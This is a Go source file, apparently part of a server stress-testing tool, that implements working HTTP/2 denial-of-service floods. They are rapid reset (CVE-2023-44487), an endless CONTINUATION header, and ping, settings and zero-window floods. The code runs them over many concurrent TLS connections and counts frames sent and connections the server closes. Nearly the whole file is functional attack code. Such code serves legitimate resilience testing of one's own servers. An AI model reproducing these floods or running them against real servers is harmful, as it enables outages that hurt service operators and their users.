//go:build linux

package hostile

import (
	"bufio"
	"bytes"
	"context"
	"crypto/tls"
	"errors"
	"fmt"
	"net"
	"net/netip"
	"os"
	"strings"
	"sync"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// A flood is one that a client makes of HTTP/2: what it sends, on a connection of its own, until the server has
// enough. It tells after how many frames that was.
type flood struct {
	name string
	send func(*flooder) error // a few frames more
	deaf bool                 // does not read what the server says
	shut bool                 // has windows of 0: no answer gets through
}

// The floods of HTTP/2 that are known: CVE-2023-44487, CVE-2023-45288, CVE-2019-9512 and 9515, 9517.
var floods = []flood{
	{name: "reset", send: (*flooder).reset},
	{name: "continuation", send: (*flooder).proceed},
	{name: "ping", send: (*flooder).ping},
	{name: "deaf", send: (*flooder).control, deaf: true},
	{name: "window", send: (*flooder).open, shut: true},
}

// A floodToll is what one kind of flood did.
type floodToll struct {
	Frames, Connections int
	Closed              int // connections that the server has ended
	Answered            int // frames of it
}

// A flooder is one connection.
type flooder struct {
	*http2.Framer
	out     *bufio.Writer
	headers *hpack.Encoder
	block   bytes.Buffer
	paths   []string
	token   string
	next    uint32 // stream
	frames  int
}

// floodHTTP2 makes a kind of flood, by some connections at a time, until ctx is done.
func (a attack) floodHTTP2(ctx context.Context, f flood, from netip.Addr) (t floodToll) {
	var mu sync.Mutex
	var all sync.WaitGroup
	for range a.Flooders {
		all.Go(func() {
			for ctx.Err() == nil {
				one, err := a.floodOnce(ctx, f, from)
				if err != nil {
					fmt.Fprintln(os.Stderr, f.name, err)
					return
				}
				mu.Lock()
				t.Frames, t.Connections, t.Closed, t.Answered = t.Frames+one.Frames, t.Connections+1, t.Closed+one.Closed, t.Answered+one.Answered
				mu.Unlock()
			}
		})
	}
	all.Wait()
	return t
}

// floodOnce floods by one connection.
func (a attack) floodOnce(ctx context.Context, f flood, from netip.Addr) (t floodToll, err error) {
	d := tls.Dialer{
		NetDialer: &net.Dialer{LocalAddr: &net.TCPAddr{IP: from.AsSlice()}},
		Config:    &tls.Config{InsecureSkipVerify: true, NextProtos: []string{"h2"}},
	}
	conn, err := d.DialContext(ctx, "tcp", strings.TrimPrefix(a.Base, "https://"))
	if err != nil {
		return t, nil // the server is that busy, or the time is over
	}
	defer conn.Close()
	defer context.AfterFunc(ctx, func() { _ = conn.SetDeadline(time.Unix(1, 0)) })()
	w := &flooder{out: bufio.NewWriterSize(conn, 16<<10), paths: a.Paths, token: a.Tokens[0], next: 1}
	w.Framer, w.headers = http2.NewFramer(w.out, conn), hpack.NewEncoder(&w.block)
	var reading sync.WaitGroup
	answered := 0
	if !f.deaf {
		reading.Go(func() {
			for {
				if _, err := w.ReadFrame(); err != nil && !errors.As(err, new(http2.StreamError)) {
					return
				}
				answered++
			}
		})
	}
	err = w.begin(f.shut)
	for err == nil && ctx.Err() == nil {
		if err = f.send(w); err == nil {
			err = w.out.Flush()
		}
		time.Sleep(a.FloodPause)
	}
	if t.Frames = w.frames; err != nil && ctx.Err() == nil {
		t.Closed = 1
	}
	conn.Close()
	reading.Wait()
	t.Answered = answered
	return t, nil
}

// begin sends the preface (RFC 9113, section 3.4).
func (w *flooder) begin(shut bool) error {
	_, _ = w.out.WriteString(http2.ClientPreface)
	var settings []http2.Setting
	if shut {
		settings = append(settings, http2.Setting{ID: http2.SettingInitialWindowSize, Val: 0})
	}
	return w.WriteSettings(settings...)
}

// request returns the fields of a GET.
func (w *flooder) request() []byte {
	w.block.Reset()
	path := w.paths[int(w.next/2)%len(w.paths)]
	for _, f := range [][2]string{
		{":method", "GET"}, {":scheme", "https"}, {":authority", "x"}, {":path", path}, {"authorization", "Bearer " + w.token},
	} {
		_ = w.headers.WriteField(hpack.HeaderField{Name: f[0], Value: f[1]})
	}
	return w.block.Bytes()
}

// ask opens a stream.
func (w *flooder) ask() (id uint32, err error) {
	id = w.next
	w.next += 2
	w.frames++
	return id, w.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: w.request(), EndStream: true, EndHeaders: true})
}

// reset asks and takes it back at once.
func (w *flooder) reset() error {
	for range 50 {
		id, err := w.ask()
		if err != nil {
			return err
		}
		w.frames++
		if err := w.WriteRSTStream(id, http2.ErrCodeCancel); err != nil {
			return err
		}
	}
	return nil
}

// proceed sends a header that has no end.
func (w *flooder) proceed() error {
	if w.frames == 0 {
		w.frames++
		return w.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: w.request(), EndStream: true})
	}
	w.frames++
	w.block.Reset()
	_ = w.headers.WriteField(hpack.HeaderField{Name: "x", Value: strings.Repeat("y", 8000), Sensitive: true})
	return w.WriteContinuation(1, false, w.block.Bytes())
}

func (w *flooder) ping() error {
	for range 100 {
		w.frames++
		if err := w.WritePing(false, [8]byte{}); err != nil {
			return err
		}
	}
	return nil
}

// control sends what has to be answered.
func (w *flooder) control() error {
	w.frames++
	return errors.Join(w.WriteSettings(http2.Setting{ID: http2.SettingMaxFrameSize, Val: 16 << 10}), w.ping())
}

// open asks for as much as it can have at a time, and takes nothing of it. It pings now and then, as
// long as the server is there.
func (w *flooder) open() error {
	const streams = 250
	for w.next < 2*streams {
		if _, err := w.ask(); err != nil {
			return err
		}
	}
	if err := w.out.Flush(); err != nil {
		return err
	}
	time.Sleep(100 * time.Millisecond)
	w.frames++
	return w.WritePing(false, [8]byte{})
}
